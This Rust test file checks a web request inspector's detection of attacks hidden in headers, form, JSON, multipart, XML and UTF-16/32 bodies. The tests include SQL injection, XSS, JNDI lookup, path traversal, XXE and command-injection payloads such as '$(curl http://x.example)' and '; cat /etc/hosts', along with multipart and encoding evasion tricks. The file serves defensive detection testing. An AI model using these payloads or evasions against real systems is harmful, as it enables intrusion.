//! Attacks that hide in how a request is written, and requests that are written alike and hide nothing.

use crate::families_tests::report;
use crate::inspector::Inspector;
use crate::report::Report;
use crate::request::Header;

const FORM: &str = "application/x-www-form-urlencoded";

fn said(name: &str, value: &str, body: &[u8]) -> Report {
    report(&Inspector::new(), "/", &[Header { name, value: value.as_bytes() }], body)
}

#[track_caller]
fn check(kind: &str, body: &[u8], is_attack: bool) {
    let report = said("Content-Type", kind, body);
    let head = String::from_utf8_lossy(&body[..body.len().min(400)]);
    assert_eq!(report.is_attack(), is_attack, "{kind}: {head}: {report:?}");
}

#[test]
fn only_the_host_of_an_address_of_the_web_is_left_out() {
    for (address, is_attack) in [
        ("${jndi:ldap://e/a}", true),
        ("https://${jndi:ldap://e/a}", true),
        ("https://1' union select user,2 from users-- /x", true),
        ("https://a.example/<script>alert(1)</script>", true),
        ("https://a.example:8443/x?y=z", false),
        ("HTTPS://[2001:db8::1]:8443/", false),
        ("https://m\u{fc}nchen.example/select", false),
        ("android-app://com.example.app/", false),
        ("about:blank", false),
    ] {
        let report = said("Referer", address, b"");
        assert_eq!(report.is_attack(), is_attack, "{address}: {report:?}");
    }
}

#[test]
fn nothing_hides_behind_many_values() {
    const ATTACKS: [&str; 3] = ["' or 1=1-- ", "<script>alert(1)</script>", "../../../etc/passwd"];
    for attack in ATTACKS {
        check(FORM, format!("{}q={attack}", "&".repeat(20_001)).as_bytes(), true);
        check(FORM, format!("{}q={attack}", "a=b&".repeat(20_001)).as_bytes(), true);
        check(FORM, format!("{}q={attack}{}", "a=b&".repeat(20_001), "&a=b".repeat(20_001)).as_bytes(), true);
        check("application/json", format!("[{}\"{attack}\"]", "\"a\",".repeat(20_001)).as_bytes(), true);
        let cookies = format!("{}q={attack}", "a=b; ".repeat(20_001));
        assert!(said("Cookie", &cookies, b"").is_attack());
    }
    check(FORM, format!("{}q=it's", "a=b&".repeat(30_000)).as_bytes(), false);
    check("application/json", format!("[{}\"it's\"]", "\"a\",".repeat(30_000)).as_bytes(), false);
}

/// Types of content under which servers read a form, and look-alikes of them.
#[test]
fn a_type_is_read_as_lenient_servers_read_it() {
    let form = b"a=1&b=%27+or+1%3D1--+";
    for kind in [FORM, "Application/X-WWW-Form-Urlencoded; charset=x", &format!("{FORM}, x"), &format!(" {FORM} x")] {
        check(kind, form, true);
        check(kind, b"a=1&b=it%27s+on", false);
    }
    let json = br#"{"a":"' or 1=1-- "}"#;
    for kind in [
        "application/json, x",
        "application/x-amz-json-1.1",
        "application/octet-stream",
        "image/png",
        "application/x-foo",
        "application/graphql",
        "application/yaml",
        "application/javascript",
        "text/x-anything",
        "x",
    ] {
        check(kind, json, true);
        check(kind, b"\xef\xbb\xbf{\"a\":\"' or 1=1-- \"}", true);
        check(kind, br#"{"a":"it's 1 or 2"}"#, false);
    }
    check("application/yaml", b"a: 1\nb: ' or 1=1-- ", true);
    check("application/graphql", b"{ user(id: \"1' or '1'='1\") { id } }", true);
    check("application/x-foo", b"<a>' or 1=1-- </a>", true);
    check("application/octet-stream", form, true);
    check("application/json", form, true);
    check("application/json", b"<a>' or 1=1-- </a>", true);
    check("application/yaml", b"on: push\nsteps:\n  - run: cargo test\n  - name: it's", false);
    check("application/javascript", b"document.cookie = 'a'; eval('1'); alert(1)", false);
}

#[test]
fn what_is_not_text_is_not_read_as_text() {
    let mut noise = 7_u64;
    let mut bytes = vec![0; 64 << 10];
    for it in &mut bytes {
        noise = noise.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        *it = (noise >> 56) as u8;
    }
    check("image/png", &[b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &bytes[..]].concat(), false);
    check("application/octet-stream", &bytes, false);
    check("application/pdf", &[&b"%PDF-1.4\n1 0 obj << /Type /Page >>\n".repeat(40)[..], &bytes].concat(), false);
}

const PARTS: &str = "multipart/form-data; boundary=BB";

/// A body of one part: its head, its content.
fn part(head: &str, content: &str) -> String {
    format!("--BB\r\n{head}\r\n\r\n{content}\r\n--BB--\r\n")
}

#[test]
fn a_part_is_a_file_only_by_its_own_disposition() {
    let attack = "' or 1=1-- ";
    for head in [
        "Content-Disposition: form-data; name=\"q\"",
        "content-disposition:form-data;name=q",
        "Content-Disposition: form-data; name=\"q\"; filename=\"\"",
        "Content-Disposition: form-data; name=\"q; filename=x\"",
        "Content-Disposition: form-data; name=\"q\"; xfilename=\"x\"",
        "Content-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; filename=\"x\"",
        "Content-Type: text/plain; filename=\"x\"\r\nContent-Disposition: form-data;\r\n name=\"q\"",
        "Content-Disposition: form-data; name=\"q\"; filename=\"x\"\r\nContent-Disposition: form-data; name=\"q\"",
        "X-Other: 1",
    ] {
        check(PARTS, part(head, attack).as_bytes(), true);
        check(PARTS, part(head, "it's 1 or 2").as_bytes(), false);
        check(PARTS, part(head, &format!("\x01\x02\x03\x04{attack}")).as_bytes(), true);
        check(PARTS, part(head, &format!("{}{attack}", "\x01".repeat(9000))).as_bytes(), true);
    }
    for head in [
        "Content-Disposition: form-data; name=\"q\"; filename=\"notes.txt\"",
        "Content-Type: text/plain\r\nCONTENT-DISPOSITION: form-data; filename=notes.txt; name=q",
    ] {
        check(PARTS, part(head, attack).as_bytes(), false);
    }
}

#[test]
fn a_boundary_is_the_first_parameter_of_that_name() {
    let body = part("Content-Disposition: form-data; name=\"q\"", "' or 1=1-- ");
    for kind in [
        "multipart/form-data; boundary=BB",
        "multipart/form-data; boundary=\"BB\"",
        "multipart/form-data, boundary=BB",
        "multipart/form-data; xboundary=AA; boundary=BB",
        "multipart/form-data; a=\"; boundary=AA\"; boundary=BB",
        "multipart/form-data; boundary=BB; boundary=AA",
        "multipart/form-data; Boundary = BB ; charset=utf-8",
        "multipart/x-anything; boundary=BB",
        "multipart/form-data",
        "multipart/form-data; boundary=AA",
    ] {
        check(kind, body.as_bytes(), true);
    }
}

#[test]
fn a_fence_is_a_line_of_its_own() {
    let field = |name: &str, content: &str| {
        format!("--BB\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{content}\r\n")
    };
    let attack = field("q", "' or 1=1-- ");
    for body in [
        format!("--BB--\r\n{attack}--BB--"),
        format!("{}{attack}--BB--", field("a", "x--BB--")),
        format!("{}{attack}--BB--", field("a", "x\r\n--BB--x\r\n")),
        format!("--BBx\r\n{attack}--BB--"),
        attack.replace("\r\n", "\n"),
        attack.replacen("--BB", "--BB \t", 1),
        format!("{}{attack}--BB--", field("a", "b").repeat(300)),
    ] {
        check(PARTS, body.as_bytes(), true);
    }
    // What looks like a head within a content is content.
    check(PARTS, field("a", "x--BB\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\nit's").as_bytes(), false);
    check(PARTS, format!("{}--BB--", field("a", "it's").repeat(300)).as_bytes(), false);
}

#[test]
fn documents_are_read_in_utf_16_and_utf_32() {
    let utf_16 = |text: &str, order: fn(u16) -> [u8; 2]| text.encode_utf16().flat_map(order).collect::<Vec<_>>();
    let utf_32 =
        |text: &str, order: fn(u32) -> [u8; 4]| text.chars().flat_map(|it| order(u32::from(it))).collect::<Vec<_>>();
    for (kind, text, is_attack) in [
        ("application/json", r#"{"a":"' or 1=1-- "}"#, true),
        ("application/json", r#"{"a":"it's 1 or 2"}"#, false),
        ("application/xml", "<?xml version='1.0' encoding='utf-16'?><a>' or 1=1-- </a>", true),
        ("text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a>&b;</a>", true),
        ("text/xml", "<a>it's 1 or 2</a>", false),
    ] {
        for mark in ["", "\u{feff}"] {
            let text = format!("{mark}{text}");
            check(kind, text.as_bytes(), is_attack);
            check(kind, &utf_16(&text, u16::to_le_bytes), is_attack);
            check(kind, &utf_16(&text, u16::to_be_bytes), is_attack);
            check(kind, &utf_32(&text, u32::to_le_bytes), is_attack);
            check(kind, &utf_32(&text, u32::to_be_bytes), is_attack);
        }
    }
}

#[test]
fn comments_and_sections_do_not_cut_a_text_of_xml() {
    for attack in ["1' un<!-- x -->ion sel<![CDATA[ect]]> 1,2-- ", "<![CDATA[<scr]]><![CDATA[ipt>alert(1)</script>]]>"]
    {
        check("text/xml", format!("<a>{attack}</a>").as_bytes(), true);
    }
    check("text/xml", b"<a href=\"http://x.example/' or 1=1-- \">x</a>", true);
    check("text/xml", b"<a b=\"<svg onload='alert(1)'>\"/>", true);
    check("text/xml", b"<a><!-- it's -->it's <![CDATA[Tom & Jerry's]]> <b c=\"it's\" d='1'/>or 1</a>", false);
}

#[test]
fn commands_are_found_in_long_texts_and_scripts_pass() {
    let words = "the quick brown fox jumps over the lazy dog and goes home ".repeat(9);
    for padding in ["a".repeat(500), words.clone(), format!("{words}\n{words}\n{words}\n{words}\nx")] {
        for attack in ["; cat /etc/hosts", "|whoami", "$(curl http://x.example)", "&& ping -c 3 10.0.0.1"] {
            let text = format!("{padding}{attack}");
            check("application/json", format!("{{\"a\":\"{}\"}}", text.replace('\n', "\\n")).as_bytes(), true);
            check(PARTS, part("Content-Disposition: form-data; name=\"q\"", &text).as_bytes(), true);
            check("text/plain", text.as_bytes(), true);
        }
    }
    let script = "#!/bin/sh\ncat list.txt | sort -u | wc -l\nif test -f a; then rm -f a; fi\n    ls -l | grep x\n$ ps aux | grep y\n";
    let page =
        format!("Call the script below.\n{script}\nUse `grep -r foo` to find it; then `ls -l`, and {words}.\n{words}");
    check("text/plain", page.as_bytes(), false);
    check(PARTS, part("Content-Disposition: form-data; name=\"q\"", &page).as_bytes(), false);
}
